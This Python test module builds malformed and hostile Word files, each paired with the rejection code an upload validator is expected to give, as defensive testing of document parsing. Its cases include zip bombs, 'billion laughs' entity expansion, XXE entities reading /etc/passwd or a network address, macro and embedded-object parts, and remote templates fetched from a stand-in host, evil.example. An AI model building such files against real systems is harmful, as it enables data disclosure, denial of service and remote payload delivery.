"""Word files that nobody should send, each with the code by which it is refused."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from functools import partial

from drafting.exchange.package import MOST_ENTRIES, MOST_PART
from drafting.exchange.returned import MOST_PARAGRAPHS
from tests.exchange.returned_cases import NAMES, docx, p, r, relations, tbl, tc, tr, with_entries
from tests.exchange.sample import W, sample, simple

MAIN = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def main_part(xml: str | bytes) -> bytes:
    """A file whose main part is that."""
    return with_entries(simple("x"), {MAIN: xml})


def body(inner: str) -> str:
    return f"<w:document {NAMES}><w:body>{inner}</w:body></w:document>"


def zipped(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as written:
        for name, data in entries.items():
            written.writestr(name, data)
    return out.getvalue()


def with_flag() -> bytes:
    """A package whose entries say that they are encrypted."""
    data = bytearray(simple("x"))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def flipped() -> bytes:
    """One bit of the packed main part is another."""
    data = bytearray(sample())
    entry = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(MAIN)
    data[entry.header_offset + 60 + entry.compress_size // 2] ^= 0x10
    return bytes(data)


def twice() -> bytes:
    """Two main parts under one name: readers do not agree which is the document."""
    data = zipped({MAIN: body(p(r("one"))).encode(), "word/documenu.xml": body(p(r("two"))).encode()})
    return data.replace(b"word/documenu.xml", MAIN.encode())


def understated() -> bytes:
    """A bomb whose directory says that it is small: what is unpacked ends where it was said to end."""
    data = bytearray(zipped({MAIN: body(p(r("x" * 9_000_000))).encode()}))
    at = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 1000)
    return bytes(data)


def overstated() -> bytes:
    data = bytearray(simple("x"))
    at = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, MOST_PART + 1)
    return bytes(data)


def noise(length: int) -> bytes:
    return random.Random(1).randbytes(length)


def heavy_parts() -> bytes:
    """Each part alone could be taken; all of them could not."""
    inner = p("<w:r/>" * 600_000)
    note = f'<w:footnote w:id="2">{inner}</w:footnote>'
    comment = f'<w:comment w:id="2">{inner}</w:comment>'
    return docx(inner, footnotes=note, comments=comment, entries={"media/x.bin": noise(2_000_000)})


def comments_on_everything() -> bytes:
    begin = "".join(f'<w:commentRangeStart w:id="{own}"/>' for own in range(2000))
    end = begin.replace("RangeStart", "RangeEnd")
    comments = "".join(f'<w:comment w:id="{own}"/>' for own in range(2000))
    return docx(begin, p(r("x")) * 2000, end, comments=comments)


def nested(depth: int) -> str:
    inner = p(r("x"))
    for _ in range(depth):
        inner = tbl(tr(tc(inner)))
    return inner


def external(kind: str, target: str) -> bytes:
    return docx(p(r("x")), entries={RELS: relations(("rId99", kind, target))})


def internal(kind: str, target: str) -> bytes:
    return docx(p(r("x")), entries={RELS: relations(("rId99", kind, target), external=False)})


def with_doctype(doctype: str, words: str, encoding: str = "utf-8") -> bytes:
    main = body(f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>")
    return main_part(f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{main}'.encode(encoding))


LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
) + "]>"  # fmt: skip

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing at all": (lambda: b"", "file-broken"),
    "plain words": (lambda: b"Dear all, please find attached", "file-broken"),
    "a PDF": (lambda: b"%PDF-1.7\n" + noise(3000), "file-broken"),
    "noise that begins as a package": (lambda: b"PK\x03\x04" + noise(3000), "file-broken"),
    "a package cut off": (lambda: sample()[:-300], "file-broken"),
    "a package without its beginning": (lambda: sample()[len(sample()) // 2 :], "file-broken"),
    "one bit that is another": (flipped, "file-broken"),
    "the old Word format": (lambda: OLE + noise(3000), "file-not-word"),
    "a password": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "file-encrypted"),
    "a package with a password": (with_flag, "file-encrypted"),
    "a table of figures": (lambda: zipped({"xl/workbook.xml": b"<workbook/>"}), "file-not-word"),
    "slides": (lambda: zipped({"ppt/presentation.xml": b"<presentation/>"}), "file-not-word"),
    "an OpenDocument text": (
        lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        "file-not-word",
    ),
    "pictures in a package": (lambda: zipped({"a.png": noise(500), "b.png": noise(500)}), "file-not-word"),
    "an empty package": (lambda: zipped({}), "file-not-word"),
    "a main part that is not there": (
        lambda: with_entries(
            simple("x"), {"_rels/.rels": relations(("rId1", "officeDocument", "word/other.xml"), external=False)}
        ),
        "file-not-word",
    ),
    "a main part that is a web page": (lambda: main_part("<html><body>Hello</body></html>"), "file-not-word"),
    "a main part that is no XML": (lambda: main_part("<w:document"), "file-broken"),
    "a main part that is empty": (lambda: main_part(""), "file-broken"),
    "styles that are no XML": (lambda: with_entries(simple("x"), {"word/styles.xml": "<w:styles"}), "file-broken"),
    "relationships that are no XML": (lambda: with_entries(simple("x"), {RELS: "<"}), "file-broken"),
    "bytes that are no UTF-8": (lambda: main_part(body(p(r("@"))).encode().replace(b"@", b"\xff\xfe")), "file-broken"),
    "signs that XML cannot hold": (lambda: main_part(body(p(r("&#0;&#1;")))), "file-broken"),
    "an encoding that hides its tags": (
        lambda: main_part('<?xml version="1.0" encoding="utf-7"?>' + body(p(r("x"))).replace("<", "+ADw-")),
        "file-broken",
    ),
    "another encoding that hides its tags": (lambda: main_part(body(p(r("x"))).encode("cp500")), "file-broken"),
    "two main parts of one name": (twice, "file-broken"),
    "a compression that asks for memory": (
        lambda: zipped({MAIN: body(p(r("x"))).encode()}, zipfile.ZIP_LZMA),
        "file-broken",
    ),
    "a part larger than it says": (understated, "file-broken"),
    "a part said to be too large": (overstated, "file-too-large"),
    "a bomb of spaces": (lambda: main_part(body(" " * 60_000_000)), "file-too-large"),
    "more entries than any document has": (
        lambda: zipped({f"word/media/{n}.png": b"" for n in range(MOST_ENTRIES + 1)}),
        "file-too-large",
    ),
    "more elements than memory holds": (
        lambda: with_entries(main_part(body("<w:p/>" * 4_000_000)), {"media/x.bin": noise(2_000_000)}),
        "file-too-large",
    ),
    "more attributes than memory holds": (
        lambda: main_part(body("".join(f'<w:p w:a="" w:b="" w:c="" w:d="{n}"/>' for n in range(200_000)))),
        "file-too-large",
    ),
    "one text longer than any": (
        lambda: with_entries(main_part(body(p(r("x" * 11_000_000)))), {"media/x.bin": noise(500_000)}),
        "file-too-large",
    ),
    "parts that are too much together": (heavy_parts, "file-too-large"),
    "more paragraphs than any document has": (
        lambda: main_part(body("<w:p/>" * (MOST_PARAGRAPHS + 1))),
        "file-too-many-paragraphs",
    ),
    "more paragraphs in a note than any document has": (
        lambda: docx(p(), footnotes=f'<w:footnote w:id="2">{"<w:p/>" * (MOST_PARAGRAPHS + 1)}</w:footnote>'),
        "file-too-many-paragraphs",
    ),
    "elements nested beyond what is parsed": (
        lambda: main_part(body("<w:sdt>" * 5000 + "</w:sdt>" * 5000)),
        "file-too-complex",
    ),
    "tables nested beyond reason": (lambda: docx(nested(60)), "file-too-complex"),
    "changes nested beyond reason": (
        lambda: docx(p("<w:ins>" * 160 + r("x") + "</w:ins>" * 160)),
        "file-too-complex",
    ),
    "thousands of comments on everything": (comments_on_everything, "file-too-complex"),
    "entities that multiply": (lambda: with_doctype(LAUGHS, "&a9;"), "file-broken"),
    "entities that multiply, in UTF-16": (lambda: with_doctype(LAUGHS, "&a9;", "utf-16"), "file-broken"),
    "an entity from the disk": (
        lambda: with_doctype("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;"),
        "file-broken",
    ),
    "an entity from the network": (
        lambda: with_doctype("<!DOCTYPE x [<!ENTITY a SYSTEM 'http://localhost:9/x'>]>", "&a;"),
        "file-broken",
    ),
    "a definition from the network": (
        lambda: with_doctype("<!DOCTYPE x SYSTEM 'http://localhost:9/x.dtd'>", "x"),
        "file-broken",
    ),
    "an entity in the comments": (
        lambda: with_entries(
            docx(p(r("x")), comments=""),
            {"word/comments.xml": f"<!DOCTYPE x [<!ENTITY a 'b'>]><w:comments xmlns:w='{W}'>&a;</w:comments>"},
        ),
        "file-broken",
    ),
    "macros": (lambda: docx(p(), entries={"word/vbaProject.bin": OLE}), "file-macros"),
    "macros under another name": (partial(internal, "vbaProject", "harmless.bin"), "file-macros"),
    "keys that run macros": (partial(internal, "keyMapCustomizations", "keys.xml"), "file-macros"),
    "an embedded workbook": (lambda: docx(p(), entries={"word/embeddings/a.xlsx": b"PK"}), "file-embedded"),
    "a control": (lambda: docx(p(), entries={"word/activeX/activeX1.xml": "<x/>"}), "file-embedded"),
    "an object under another name": (partial(internal, "oleObject", "harmless.bin"), "file-embedded"),
    "another document to be taken in": (partial(internal, "aFChunk", "chunk.html"), "file-embedded"),
    "a template from the network": (
        partial(external, "attachedTemplate", "https://evil.example/t.dotm"),
        "file-external",
    ),
    "a template from a share": (partial(external, "attachedTemplate", "\\\\evil.example\\t.dotm"), "file-external"),
    "a template from a share, as an address": (
        partial(external, "attachedTemplate", "file://evil.example/t.dotm"),
        "file-external",
    ),
    "a template from a share, as an address of the disk": (
        partial(external, "attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
        "file-external",
    ),
    "a picture from the network": (partial(external, "image", "https://evil.example/seen.png"), "file-external"),
    "an object from the network": (partial(external, "oleObject", "https://evil.example/x"), "file-embedded"),
    "a part of the document elsewhere": (partial(external, "subDocument", "file:///C:/other.docx"), "file-external"),
    "a frame from the network": (partial(external, "frame", "https://evil.example/"), "file-external"),
}  # fmt: skip
